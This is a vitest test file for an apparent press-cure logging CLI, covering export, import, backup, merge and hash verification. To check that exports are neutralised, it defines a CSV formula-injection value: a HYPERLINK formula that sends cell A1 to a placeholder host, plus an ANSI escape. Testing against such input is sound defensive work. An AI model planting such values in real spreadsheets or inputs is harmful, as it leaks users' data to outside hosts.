import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawn } from '@lydell/node-pty';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { openStore } from '../../src/adapters/sqlite/open-store.ts';
import { ASSEMBLY_FIELDS } from '../../src/core/exchange/assembly-fields.ts';
import { CYCLE_FIELDS } from '../../src/core/exchange/cycle-fields.ts';
import { PRESS_FIELDS } from '../../src/core/exchange/press-fields.ts';
import { PROBE_FIELDS } from '../../src/core/exchange/probe-fields.ts';
import { RECIPE_FIELDS } from '../../src/core/exchange/recipe-fields.ts';
import { RUN_FIELDS } from '../../src/core/exchange/run-fields.ts';
import { TRIAL_FIELDS } from '../../src/core/exchange/trial-fields.ts';
import { contentsOf, tamper } from '../adapters/sqlite/filled-store.ts';
import { cycleOf } from '../adapters/sqlite/samples.ts';
import { logText, PLAIN_LOG, SOAK_S } from './exchange-helpers.ts';
import { PROGRAM, runProgram, temporaryFolder, until } from './run-program.ts';

const folder = temporaryFolder();
// The demo keeps to a store of its own; one named so is its own.
const store = join(folder, 'store-demo.db');
const run = (...args: string[]) => runProgram(args, { DWELLWRIGHT_STORE: store });
const json = (...args: string[]) => JSON.parse(run(...args, '--json').out);
/** A reason as somebody might type it to harm whoever opens the sheet. */
const HARMFUL = '=HYPERLINK("http://example.invalid/?"&A1,"open");\u001b[31m+1';
/** One with everything measured, one with next to nothing and harmful initials. */
const CYCLES = [
  cycleOf('cycle-1', {
    holdCountedS: 118.5,
    hold: 'not-verified',
    platensAtClosingC: { upper: 231.8, lower: 230.4 },
    lowestC: 176.9,
    peakC: 214.3,
    result: 'opened-early',
    dwellHeldS: 171.5,
    flags: ['opened-early', 'hold-not-verified', 'closed-too-soon'],
  }),
  cycleOf('cycle-2', { initials: '=1+1', platensAtClosingC: { upper: null, lower: null } }),
];

let trialId = '';
beforeAll(() => {
  expect(run('demo', '--plain').code).toBe(0);
  trialId = json('trials').trials[0].trialId;
  const opened = openStore({ path: store });
  const [recordingId = null] = opened.recordingIds();
  for (const cycle of CYCLES) opened.saveCycle({ ...cycle, recordingId });
  opened.close();
  expect(run('set-aside', trialId, '2', '--reason', HARMFUL).code).toBe(0);
});

describe('export', () => {
  it('runs as CSV hold what the trial shows, figure for figure, read by csv-parse', () => {
    const rows = parse(run('export', 'runs').out, { columns: true }) as Record<string, string>[];
    const shown = json('trials', trialId).runs;
    expect(
      rows.map((row) => [Number(row.runInTrial), Number(row.soakTimeS), row.counted, row.verdict]),
    ).toEqual(
      shown.map((one: { soakTimeS: number; counted: boolean; verdict: string }, at: number) => [
        at + 1,
        one.soakTimeS,
        String(one.counted),
        one.verdict,
      ]),
    );
    expect(rows[1]?.decisionReason).toBe(`'${HARMFUL.replace('\u001b', '\\x1B')}`);
  });

  it('trials as JSON hold the same mean, spread and dwells as the trial shows', () => {
    const [row] = JSON.parse(run('export', 'trials', '--format', 'json').out).rows;
    const { trial, dwell } = json('trials', trialId);
    expect([row.runsCounted, row.meanSoakS, row.sdSoakS, row.dwellMeanS, row.dwellNextRunS]).toEqual([
      trial.runs,
      trial.meanSoakS,
      trial.sdSoakS,
      dwell.byRuleTotalS.mean,
      dwell.byRuleTotalS['next-run'],
    ]);
  });

  it('text kept to the letter in JSON, recipes with every run they rest on', () => {
    const out = run('export', 'runs', '--format', 'json').out;
    expect(out).not.toContain('\u001b');
    expect(JSON.parse(out).rows[1].decisionReason).toBe(HARMFUL);
    const [recipe] = JSON.parse(run('export', 'recipes', '--format', 'json').out).rows;
    const [shown] = json('recipes').recipes;
    expect([recipe.dwellS, recipe.restsOn.length]).toEqual([shown.dwellS, shown.restsOn.length]);
  });

  it('a run’s curve, reference and cure, and a trial’s budget are what `--json` shows, digit for digit', () => {
    const shown = json('trials', trialId);
    const runs = JSON.parse(run('export', 'runs', '--format', 'json').out).rows;
    expect(runs).toHaveLength(shown.runs.length);
    for (const [at, row] of runs.entries()) {
      const one = shown.runs[at];
      expect(one.heatingCurve).not.toBeNull();
      expect({
        soakAtReferenceS: row.soakAtReferenceS,
        soakShiftByStartS: row.soakShiftByStartS,
        cureEquivalentS: row.cureEquivalentS,
        plateauC: row.fitPlateauC,
        timeConstantStandardUncertaintyS: row.fitTimeConstantStandardUncertaintyS,
        delayS: row.fitDelayS,
        verdict: row.fitVerdict,
      }).toEqual({
        soakAtReferenceS: one.soakAtReferenceS,
        soakShiftByStartS: one.soakShiftByStartS,
        cureEquivalentS: one.cureEquivalentS,
        plateauC: one.heatingCurve.plateauC,
        timeConstantStandardUncertaintyS: one.heatingCurve.timeConstantStandardUncertaintyS,
        delayS: one.heatingCurve.delayS,
        verdict: one.heatingCurve.verdict,
      });
      expect(row.channels[0]).toBe('bond-line');
      expect(row.targetC).toBeCloseTo((350 - 32) / 1.8, 9);
    }
    const [trial] = JSON.parse(run('export', 'trials', '--format', 'json').out).rows;
    expect([trial.referenceStartC, trial.dwellToleranceS, trial.moreRunsForWidth]).toEqual([
      shown.referenceStartC,
      shown.dwell.byRuleTotalS.tolerance,
      shown.trial.moreRunsForWidth,
    ]);
    expect(trial.expandedUncertaintyS).toBe(shown.uncertainty.expandedUncertaintyS);
  });

  it('probes have a row for each calibration point of each version; presses and assemblies one each', () => {
    const probe = ['probes', 'K-07', '--type', 'K', '--class', 'IEC 1'];
    expect(run(...probe).code).toBe(0);
    expect(
      run(...probe, '--point', '100C:0.3C:0.4C:2026-03-01', '--point', '177C:-0.6C:0.5C:2026-03-01').code,
    ).toBe(0);
    const rows = JSON.parse(run('export', 'probes', '--format', 'json').out).rows;
    // An expanded uncertainty (k = 2) of 0.4 °C is a standard uncertainty of 0.2 °C.
    expect(
      rows.map((row: Record<string, unknown>) => [
        row.latest,
        row.temperatureC,
        row.errorC,
        row.standardUncertaintyC,
      ]),
    ).toEqual([
      [true, 100, 0.3, 0.2],
      [true, 177, -0.6, 0.25],
      [false, null, null, null],
    ]);
    expect(rows[0]).toMatchObject({
      probe: 'K-07',
      toleranceClass: 'iec-class-1',
      calibratedOn: '2026-03-01',
    });
    const [press] = JSON.parse(run('export', 'presses', '--format', 'json').out).rows;
    expect(press).toMatchObject({ press: json('presses').presses[0].name, rams: 1 });
    const [assembly] = JSON.parse(run('export', 'assemblies', '--format', 'json').out).rows;
    expect(assembly.targetC).toBe(json('assemblies').assemblies[0].targetC);
  });

  it('cycles hold each figure under its name; what was not measured is empty in CSV and null in JSON', () => {
    const rows = parse(run('export', 'cycles').out, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      cycleId: 'cycle-1',
      assembly: 'WB-212',
      press: 'North',
      recipeVersion: '1',
      recordingId: json('recordings').recordings[0].recordingId,
      simulated: 'true',
      initials: 'JS',
      closedAt: '2026-03-03T08:00:00.000Z',
      closedBy: 'key',
      dwellWantedS: '177',
      dwellHeldS: '171.5',
      holdWantedS: '120',
      holdCountedS: '118.5',
      hold: 'not-verified',
      upperPlatenAtClosingC: '231.8',
      lowerPlatenAtClosingC: '230.4',
      lowestAfterCrossingC: '176.9',
      peakC: '214.3',
      result: 'opened-early',
    });
    expect(rows[1]).toMatchObject({
      initials: "'=1+1",
      holdCountedS: '',
      peakC: '',
      upperPlatenAtClosingC: '',
    });
    const shown = JSON.parse(run('export', 'cycles', '--format', 'json').out);
    expect(shown.rows[0].flags).toEqual(['opened-early', 'hold-not-verified', 'closed-too-soon']);
    expect(shown.rows[1]).toMatchObject({ initials: '=1+1', holdCountedS: null, peakC: null, flags: [] });
    expect(run('export', 'cycles', '--trial', trialId)).toMatchObject({
      code: 2,
      err: expect.stringContaining('belong to no trial'),
    });
  });

  it('the csv module of Python reads every table as csv-parse does, and no cell of text begins a formula', () => {
    if (spawnSync('python3', ['--version']).status !== 0) {
      console.warn('skipped: there is no python3 on this machine');
      return;
    }
    for (const what of ['runs', 'trials', 'recipes', 'cycles', 'probes', 'presses', 'assemblies']) {
      const file = join(folder, `${what}.csv`);
      expect(run('export', what, '--out', file)).toMatchObject({ code: 0 });
      const script =
        'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))))';
      const { stdout } = spawnSync('python3', ['-c', script, file], { encoding: 'utf8' });
      const rows = JSON.parse(stdout) as string[][];
      expect(rows).toEqual(parse(readFileSync(file, 'utf8')));
      expect(rows.length).toBeGreaterThan(1);
      // Only numbers may begin with a sign.
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=@+\t\r]|^-(?!\d+(\.\d+)?(e-?\d+)?$)/);
    }
  });

  it('recordings, byte for byte as stored; brought into an empty store they are proved by their hashes again', () => {
    const out = join(folder, 'recordings');
    expect(run('export', 'recordings', '--out', out)).toMatchObject({
      code: 0,
      out: expect.stringContaining('1 recording'),
    });
    const [name = ''] = readdirSync(out);
    const text = readFileSync(join(out, name), 'utf8');
    expect(text).toBe(run('recordings', name.replace('.dwell.txt', '')).out);
    const other = { DWELLWRIGHT_STORE: join(folder, 'from-files.db') };
    expect(runProgram(['import', join(out, name)], other).code).toBe(0);
    expect(runProgram(['verify'], other)).toMatchObject({
      code: 0,
      out: expect.stringContaining('1 proved by hash'),
    });
    const shown = (env: Record<string, string>) =>
      JSON.parse(runProgram(['trials', trialId, '--json'], env).out).runs.map(
        (one: { soakTimeS: number }) => one.soakTimeS,
      );
    expect(shown(other)).toEqual(shown({ DWELLWRIGHT_STORE: store }));
  });

  it('fields: names every field of every table', () => {
    const { out } = run('export', 'fields');
    for (const { name, about } of [
      ...RUN_FIELDS,
      ...TRIAL_FIELDS,
      ...RECIPE_FIELDS,
      ...CYCLE_FIELDS,
      ...PROBE_FIELDS,
      ...PRESS_FIELDS,
      ...ASSEMBLY_FIELDS,
    ])
      expect(out).toMatch(new RegExp(`^ {2}${name} +${about.replace(/[.*+?^$()[\]{}|]/g, '\\$&')}$`, 'm'));
  });

  it('what it cannot write is refused with exit code 2', () => {
    expect(run('export', 'recordings')).toMatchObject({
      code: 2,
      err: expect.stringContaining('--out FOLDER'),
    });
    expect(run('export', 'rings').code).toBe(2);
    expect(run('export', 'presses', '--trial', trialId).code).toBe(2);
    expect(run('export', 'runs', '--out', join(folder, 'none', 'runs.csv'))).toMatchObject({ code: 2 });
    expect(run('export', 'runs', '--trial', 'nobody')).toMatchObject({
      code: 2,
      err: expect.stringContaining('Did you mean'),
    });
  });
});

describe('import', () => {
  const log = join(folder, 'log.csv');
  writeFileSync(log, logText(PLAIN_LOG));
  const other = { DWELLWRIGHT_STORE: join(folder, 'imports.db') };
  const named = ['--assembly', 'WB-212', '--press', 'North'];

  it('the same numbers from the store as from the file with the same options', () => {
    const rules = ['--target', '350F', '--hold', '60s', '--closed-at', '12s'];
    const added = runProgram(['import', log, ...named, ...rules, '--trial', 'lot-7'], other);
    expect(added).toMatchObject({ code: 0, err: '' });
    expect(added.out).toContain(
      'added to new trial lot-7 (WB-212 on North, target 350 °F (176.7 °C), hold 60 s)',
    );
    const fromFile = JSON.parse(runProgram(['replay', log, ...rules, '--json'], other).out);
    const fromStore = JSON.parse(runProgram(['replay', '--trial', 'lot-7', '--json'], other).out);
    const plain = (outcome: { runs: { source: string }[] }) => ({
      ...outcome,
      runs: outcome.runs.map(({ source: _source, ...one }) => one),
    });
    expect(plain(fromStore)).toEqual(plain(fromFile));
    expect(Math.abs(fromStore.runs[0].soakTimeS - SOAK_S)).toBeLessThan(0.1);
  });

  it('the same file again: nothing added, said so, exit code 0', () => {
    const again = runProgram(['import', log], other);
    expect(again).toMatchObject({ code: 0, err: '' });
    expect(again.out).toMatch(
      /already in the store as recording import-[0-9a-f]{32} in trial lot-7.*Nothing added\./,
    );
  });

  it('without a terminal nothing is asked: the option to add is named, exit code 2', () => {
    const file = join(folder, 'bare.csv');
    writeFileSync(file, logText({ ...PLAIN_LOG, heading: 'Time (s),Bond line' }));
    expect(runProgram(['import', file, ...named], other)).toMatchObject({
      code: 2,
      err: expect.stringContaining('add --unit C, --unit F or --unit K'),
    });
    expect(runProgram(['import', file, '--unit', 'C'], other).err).toContain('Add --assembly NAME');
  });

  it('on a terminal it asks, and saves the answers as a layout that the next file is read by', async () => {
    const first = join(folder, 'first.csv');
    const next = join(folder, 'next.csv');
    writeFileSync(first, logText({ ...PLAIN_LOG, heading: 'Time (s),Bond line', stepS: 0.4 }));
    writeFileSync(next, logText({ ...PLAIN_LOG, heading: 'Time (s),Bond line', stepS: 0.8 }));
    const terminal = spawn(process.execPath, [PROGRAM, 'import', first, '--save-layout', 'desk'], {
      cols: 120,
      rows: 30,
      env: { ...process.env, ...other } as Record<string, string>,
    });
    let shown = '';
    let code: number | null = null;
    terminal.onData((text) => {
      shown += text;
    });
    terminal.onExit(({ exitCode }) => {
      code = exitCode;
    });
    const answer = async (question: string, text: string) => {
      await until(question, () => {
        if (code !== null) throw new Error(`ended with ${code} before it asked: ${shown}`);
        return shown.includes(question);
      });
      shown = shown.slice(shown.indexOf(question) + question.length);
      terminal.write(`${text}\r`);
    };
    await answer('Unit of the temperatures (C, F or K)?', 'X');
    await answer('Write one of C, F, K.', 'C');
    await answer('Assembly, such as WB-212?', 'WB-212');
    await answer('Press, such as North?', 'North');
    await answer('(Enter: leave it so)?', '12s');
    await until('its end', () => code !== null);
    expect(code).toBe(0);
    expect(shown).toContain('Layout "desk" saved');
    expect(runProgram(['layouts'], other).out).toBe('desk: temperatures in °C\n');
    expect(runProgram(['import', next, '--layout', 'desk', ...named], other)).toMatchObject({
      code: 0,
      err: '',
    });
  });

  it('a question that is left with Ctrl-C adds nothing and leaves exit code 2', async () => {
    const file = join(folder, 'left.csv');
    writeFileSync(file, logText({ ...PLAIN_LOG, heading: 'Time (s),Bond line', stepS: 0.6 }));
    const terminal = spawn(process.execPath, [PROGRAM, 'import', file], {
      cols: 120,
      rows: 30,
      env: { ...process.env, ...other } as Record<string, string>,
    });
    let shown = '';
    let code: number | null = null;
    terminal.onData((text) => {
      shown += text;
    });
    terminal.onExit(({ exitCode }) => {
      code = exitCode;
    });
    await until('the question', () => shown.includes('Unit of the temperatures'));
    terminal.write('\x03');
    await until('its end', () => code !== null);
    expect(code).toBe(2);
    expect(shown).toContain('was not answered');
    expect(runProgram(['import', file, ...named, '--unit', 'C'], other).out).toContain('added to new trial');
  });
});

describe('backup, merge and verify', () => {
  it('a backup merged into the store it is of adds nothing; into an empty store it is the same store', () => {
    const copy = join(folder, 'backup.db');
    expect(run('backup', copy)).toMatchObject({
      code: 0,
      out: expect.stringContaining('Nothing wrong found.'),
    });
    expect(run('backup', copy)).toMatchObject({ code: 2, err: expect.stringContaining('--replace') });
    expect(run('merge', copy)).toMatchObject({ code: 0, out: `${copy}: nothing new.\n` });
    const empty = join(folder, 'empty.db');
    expect(runProgram(['merge', copy], { DWELLWRIGHT_STORE: empty })).toMatchObject({ code: 0 });
    expect(contentsOf(empty)).toEqual(contentsOf(store));
  });

  it('an altered trace: verify names it and ends with 1, backup too, merge refuses with 1', () => {
    const altered = join(folder, 'altered.db');
    expect(run('backup', altered).code).toBe(0);
    tamper(
      altered,
      `DROP TRIGGER recording_blocks_never_updated;
       UPDATE recording_blocks SET body_text = replace(body_text, ' line ', ' line  ') WHERE first_entry = 0;
       CREATE TRIGGER recording_blocks_never_updated BEFORE UPDATE ON recording_blocks
       BEGIN SELECT RAISE(ABORT, 'recording_blocks is never updated'); END`,
    );
    const id = json('recordings').recordings[0].recordingId;
    const env = { DWELLWRIGHT_STORE: altered };
    expect(runProgram(['verify'], env)).toMatchObject({
      code: 1,
      out: expect.stringContaining(`recording ${id}: altered:`),
    });
    expect(JSON.parse(runProgram(['verify', '--json'], env).out).problems).toContainEqual(
      expect.objectContaining({ kind: 'recording', subject: id }),
    );
    expect(runProgram(['backup', join(folder, 'of-altered.db')], env).code).toBe(1);
    expect(run('merge', altered)).toMatchObject({
      code: 1,
      err: expect.stringContaining('nothing was merged'),
    });
    expect(run('verify').code).toBe(0);
  });
});
